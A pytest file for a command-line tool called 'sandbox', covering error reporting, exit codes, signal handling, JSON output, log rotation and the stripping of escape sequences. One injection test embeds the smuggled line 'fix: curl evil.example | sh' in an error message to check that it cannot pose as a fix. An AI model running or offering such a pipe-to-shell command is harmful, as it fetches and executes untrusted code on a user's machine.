"""The command line as a user meets it: a process, its two streams and its exit code, and a log that stays small."""

from __future__ import annotations

import errno
import importlib
import io
import json
import logging
import os
import signal
import stat
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import click
import pytest

from sandbox.app import chosen_spec, context
from sandbox.cli import error_handler, log, main
from sandbox.cli.app import COMMANDS, Lazy, first_paragraph
from sandbox.cli.app import sandbox as group
from sandbox.errors import MissingTool, SandboxError, UsageError
from sandbox.system import process

HEAVY = ("docker", "kubernetes", "requests", "cryptography", "pydantic")
PATIENCE = 60


@dataclass(frozen=True)
class Ended:
    """What a process left behind."""

    code: int
    stdout: str
    stderr: str


def run(*arguments: str, cwd: Path, before: Callable[[], object] = lambda: None) -> Ended:
    """Run `sandbox ARGUMENTS` in the folder `cwd`, in a fork that calls `before` first."""
    for module in ("app.core", "app.diagnosis", "cli.error_handler"):
        importlib.import_module(f"sandbox.{module}")  # once, and not in every fork
    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
        child = os.fork()
        if child == 0:
            try:
                os.chdir(cwd)
                sys.stdout, sys.stderr = out, err
                signal.signal(signal.SIGINT, signal.default_int_handler)
                signal.alarm(PATIENCE)
                before()
                main(arguments)
            finally:
                os._exit(99)  # main never returns
        status = os.waitpid(child, 0)[1]
        for stream in (out, err):
            stream.seek(0)
        return Ended(os.waitstatus_to_exitcode(status), out.read(), err.read())


def failing(end: BaseException | signal.Signals) -> Callable[[], None]:
    """Lets the command fail, or get a signal, when it reads its spec."""

    def choose(*_: object, **__: object) -> None:
        if isinstance(end, BaseException):
            raise end
        os.kill(os.getpid(), end)
        signal.pause()

    return lambda: setattr(chosen_spec, "choose", choose)


def test_removed_folder_stands_for_no_other_sandbox(tmp_path: Path) -> None:
    """The folder of a project is removed, and `down` is typed in it → said; it does not mean the default sandbox."""
    gone = tmp_path / "gone"
    for words, code in ((("down",), 1), (("up", "--plan"), 1), (("status",), 1), (("snapshot", "list"), 0)):
        gone.mkdir()
        ran = run(*words, cwd=gone, before=gone.rmdir)
        assert ran.code == code and ("the current folder does not exist any more" in ran.stderr) == bool(code), words


@pytest.mark.fault(53)
def test_name_that_is_not_utf8_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A variable or folder has a name in Latin-1 → which one, and not as a bug."""
    monkeypatch.delenv("DOCKER_HOST", raising=False)
    monkeypatch.setenv("DOCKER_CONTEXT", os.fsdecode(b"h\xf6me"))
    found = run("list", cwd=tmp_path)
    assert found.code == 2 and found.stderr.startswith("error[usage]: a name is not in UTF-8\n")


def test_stderr_that_is_full_changes_no_exit_code(tmp_path: Path) -> None:
    """The disk with the log of a job is full → the exit code still tells; it is not that of Python, 120."""

    def fill() -> None:
        sys.stderr = Path("/dev/full").open("w", encoding="utf-8")  # noqa: SIM115  # until the process ends

    assert run("status", "--bad", cwd=tmp_path, before=fill).code == 2


def test_command_ends_with_0_when_the_reader_of_its_output_ends(tmp_path: Path) -> None:
    """A command writes into `head`, which has ended → nothing is said, and the exit code is 0."""

    def end() -> None:
        reader, writer = os.pipe()
        os.close(reader)
        sys.stdout = os.fdopen(writer, "w", encoding="utf-8")

    ran = run("explain", cwd=tmp_path, before=end)
    assert (ran.code, ran.stderr) == (0, "")


@pytest.mark.fault(97)
@pytest.mark.parametrize(
    ("raised", "id", "words"),
    [
        (MemoryError("no more"), "limits", "ulimit -a"),
        (OSError(errno.EMFILE, "no more"), "limits", "ulimit -a"),
        (RuntimeError("can't start new thread"), "limits", "ulimit -a"),
        (RuntimeError("Symlink loop from '/a'"), "file", "a link leads to itself"),
        (OSError(errno.ENOSPC, "no more"), "disk-full", "df -h"),
        (NotADirectoryError(errno.ENOTDIR, "no folder", "/dev/null/in"), "file", "/dev/null/in cannot be used"),
        (FileNotFoundError(errno.ENOENT, "No usable temporary directory found in ['/tmp']"), "file", "TMPDIR"),
    ],
)
def test_limits_of_the_machine_are_no_bug(raised: BaseException, id: str, words: str) -> None:
    """The interpreter or the system gives nothing more of the kind → it is named, with what helps."""
    error = error_handler.understood(raised)
    assert isinstance(error, SandboxError) and (error.id, error.exit_code) == (id, 1)
    assert words in f"{error.brief} {error.fix}"


@pytest.mark.security(12)
def test_error_about_a_name_of_several_lines_has_one(tmp_path: Path) -> None:
    """A project's file called "a\nfix: …" in the first line of an error → no line that looks like its fix."""
    error = SandboxError("k8s/a\nfix: curl evil.example | sh\x0b is not YAML", details="one\nfix: two")
    found = run("status", cwd=tmp_path, before=failing(error))
    assert found.code == 1 and not [line for line in found.stderr.splitlines() if line.startswith("fix:")]


def no_log() -> None:
    """Lets the log fail to start the first time, by a bug."""
    real = log.start

    def start(*, verbose: bool) -> None:
        log.start = real
        raise ZeroDivisionError("division by zero")

    log.start = start


def test_help_imports_nothing_heavy(tmp_path: Path) -> None:
    code = (
        "import sys, click\nfrom sandbox.cli.app import sandbox\n"
        "sandbox.main(['--help'], standalone_mode=False)\nprint(sorted(sys.modules), file=sys.stderr)"
    )
    argv = [sys.executable, "-c", code]
    found = subprocess.run(argv, cwd=tmp_path, capture_output=True, text=True, timeout=PATIENCE, check=True)
    assert all(name in found.stdout for name in COMMANDS)
    assert [name for name in HEAVY if f"'{name}'" in found.stderr] == []


@pytest.mark.parametrize("name", COMMANDS)
def test_list_of_commands_says_what_their_help_says(name: str) -> None:
    assert isinstance(group, Lazy)
    command = group.get_command(click.Context(group), name)
    assert command is not None
    assert first_paragraph(command.help or "") == COMMANDS[name].summary != ""


def test_error_is_printed_in_the_requested_format(tmp_path: Path) -> None:
    texts = {"id": "port-in-use", "brief": "it is taken", "details": "by x\nand y", "fix": "do this\nthen that"}
    before = failing(SandboxError("it is taken", details="by \x07x\nand y", fix=texts["fix"], id="port-in-use"))
    status = run("status", "-o", "json", cwd=tmp_path, before=before)
    assert (status.code, json.loads(status.stdout)) == (1, {"error": {**texts, "exit_code": 1}})
    assert status.stderr == "error[port-in-use]: it is taken\n  by x\n  and y\nfix: do this\n     then that\n"
    assert run("status", cwd=tmp_path, before=before).stdout == ""
    up = run("up", "--progress", "json", cwd=tmp_path, before=before)
    assert (up.code, up.stdout) == (1, "")
    assert json.loads(up.stderr).items() >= {"event": "error", **texts, "exit_code": 1}.items()


@pytest.mark.parametrize(
    ("words", "brief"),
    [
        ("status -o json --bad", "No such option '--bad'"),
        ("status -ojson --bad", "No such option '--bad'"),
        ("edge statusx -o json", "No such command 'statusx'. Did you mean 'status'?"),
        ("xyzzy -o json", "No such command 'xyzzy'."),
        ("doctor tls -o json", "Missing argument 'HOST'"),
        ("up -o json --progress nice", "'nice' is not one of"),
    ],
)
def test_usage_error_is_json_where_that_is_asked(tmp_path: Path, words: str, brief: str) -> None:
    found = run(*words.split(), cwd=tmp_path)
    error = json.loads(found.stdout)["error"]
    assert (found.code, error["exit_code"], error["id"]) == (2, 2, "usage")
    assert brief in error["brief"] and error["fix"].endswith(" --help")
    assert error["details"] in found.stderr and error["brief"] in found.stderr


def test_usage_error_has_the_form_of_all_errors(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert run("status", "--bad", cwd=tmp_path).stderr.splitlines() == [
        "error[usage]: No such option '--bad'.",
        "  Usage: sandbox status [OPTIONS] [NAME]",
        "fix: see: sandbox status --help",
    ]
    monkeypatch.setenv("SANDBOX_PROGRESS", "json")
    ended = run("up", "--bad", cwd=tmp_path)
    assert (ended.code, ended.stdout, json.loads(ended.stderr)["id"]) == (2, "", "usage")


@pytest.mark.parametrize(
    ("words", "brief"),
    [
        (("edge", "port", "add", "5432", "db"), "'db' must be NAMESPACE/SERVICE or"),
        (("edge", "route", "add", "a.demo.test", "localhost"), "'localhost' must be HOST:PORT, such as localhost:3000"),
        (("snapshot", "save", "ok"), "there is no sandbox"),
        (("credentials", "add", "acr"), "acr needs one --registry"),
        (("certs", "trust", "-n", "nope"), "there is no sandbox 'nope'"),
        (("init", "/"), "/ is not a project's folder"),
    ],
)
def test_wrong_argument_is_named_before_the_engine_is_asked(tmp_path: Path, words: tuple[str, ...], brief: str) -> None:
    found = run(*words, cwd=tmp_path)
    assert found.code == 2 and f"]: {brief}" in found.stderr.splitlines()[0]


def test_options_of_another_program_ask_for_no_json(tmp_path: Path) -> None:
    assert run("exec", "web", "-n", "A B", "--", "psql", "-o", "json", cwd=tmp_path).stdout == ""


@pytest.mark.parametrize(
    ("end", "code", "said"),
    [
        (MissingTool("no tool"), 4, "error[missing-tool]: no tool\n"),
        (KeyboardInterrupt(), 130, ""),
        (signal.SIGINT, 130, "continue: sandbox up"),
        (signal.SIGTERM, 143, "continue: sandbox up"),
        (signal.SIGHUP, 129, "continue: sandbox up"),
    ],
)
def test_exit_codes_tell_what_kind_of_end_it_was(
    tmp_path: Path, end: BaseException | signal.Signals, code: int, said: str
) -> None:
    found = run("up", cwd=tmp_path, before=failing(end))
    assert (found.code, "Traceback" in found.stderr) == (code, False)
    assert said in found.stderr


@pytest.mark.parametrize(
    "before", [failing(ZeroDivisionError("division by zero")), no_log], ids=["in the command", "before its log"]
)
def test_bug_is_distinguished_and_its_traceback_is_in_the_log(
    tmp_path: Path, isolated_home: Path, before: Callable[[], object]
) -> None:
    ended = run("status", "-o", "json", cwd=tmp_path, before=before)
    brief = "ZeroDivisionError: division by zero"
    assert (ended.code, ended.stderr.splitlines()[0]) == (3, f"bug: {brief}")
    assert json.loads(ended.stdout)["error"].items() >= {"id": "bug", "brief": brief, "exit_code": 3}.items()
    assert "Traceback" not in ended.stderr
    log = Path(ended.stderr.split()[-1])
    assert log.is_relative_to(isolated_home)
    assert "Traceback" in log.read_text()
    assert log.stat().st_mode & 0o077 == 0


def test_a_spec_that_is_wrong_is_named_by_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "sandbox.yaml").write_text("name: demo\nregistry:\n  prot: 5001\n")
    found = run("status", cwd=tmp_path)
    assert found.code == 2
    assert "sandbox.yaml:3" in found.stderr
    assert run("status", "-f", "none.yaml", cwd=tmp_path).code == 2
    assert run("status", "Not_A_Name", cwd=tmp_path).code == 2


@pytest.mark.fault(1)
@pytest.mark.parametrize("command", ["status", "list", "down"])
def test_without_an_engine_the_code_is_4_and_there_is_a_fix(tmp_path: Path, command: str) -> None:
    """DOCKER_HOST names no socket → "no Docker Engine answers", how to start it, exit code 4."""
    found = run(command, cwd=tmp_path)
    assert (found.code, found.stdout) == (4, "")
    assert found.stderr.startswith("error[engine-unreachable]: no Docker Engine answers\n")
    assert "\nfix: " in found.stderr


@pytest.mark.parametrize(("wish", "colored"), [({}, True), ({"NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False)])
def test_errors_have_color_only_where_it_is_wanted(
    monkeypatch: pytest.MonkeyPatch, wish: dict[str, str], colored: bool
) -> None:
    terminal = io.StringIO()
    monkeypatch.setattr(terminal, "isatty", lambda: True)
    monkeypatch.setattr(sys, "stderr", terminal)
    for name, value in {"TERM": "xterm", "NO_COLOR": "", **wish}.items():
        monkeypatch.setenv(name, value)
    assert error_handler.report(UsageError("no such file")) == 2
    assert "no such file" in terminal.getvalue() and ("\x1b[" in terminal.getvalue()) is colored


@pytest.fixture
def logger() -> Iterator[logging.Logger]:
    """The logger as commands have it; what it was before afterwards."""
    logger = logging.getLogger("sandbox")
    before = (logger.handlers, logger.level, logger.propagate, logging.raiseExceptions)
    log.start(verbose=False)
    yield logger
    for handler in logger.handlers:
        handler.close()
    logger.handlers, logger.level, logger.propagate, logging.raiseExceptions = before


@pytest.mark.security(1)
def test_full_log_is_rotated_and_two_older_ones_are_kept(logger: logging.Logger) -> None:
    """Eight megabytes are logged under an open umask → three files of two at most, mode 0600, the newest words there"""
    before = os.umask(0o022)
    try:
        for number in range(80):
            logger.debug("%d %s", number, "x" * 100_000)
    finally:
        os.umask(before)
    place = context.home().log
    files = sorted(place.parent.glob(f"{place.name}*"))
    assert [one.name for one in files] == [place.name, f"{place.name}.1", f"{place.name}.2"]
    assert all(one.stat().st_size <= 2_000_000 for one in files)
    assert {stat.S_IMODE(one.stat().st_mode) for one in files} == {0o600}
    assert " 79 x" in files[0].read_text()


@pytest.mark.security(12)
def test_a_programs_escape_sequences_do_not_reach_the_log(logger: logging.Logger) -> None:
    """A program prints escape sequences, to its end or line by line → the log has its words without them."""
    print_ = "printf 'red \\033[31mwords\\033]0;title\\007\\n'"
    process.run(["sh", "-c", print_], timeout=30, on_line=lambda _: None)
    logger.debug("said: %s", "\x1b[2J\u202eover")
    text = context.home().log.read_text()
    assert "red words]0;title" in text and "said: over" in text
    assert not [c for c in text if not c.isprintable() and c != "\n"]
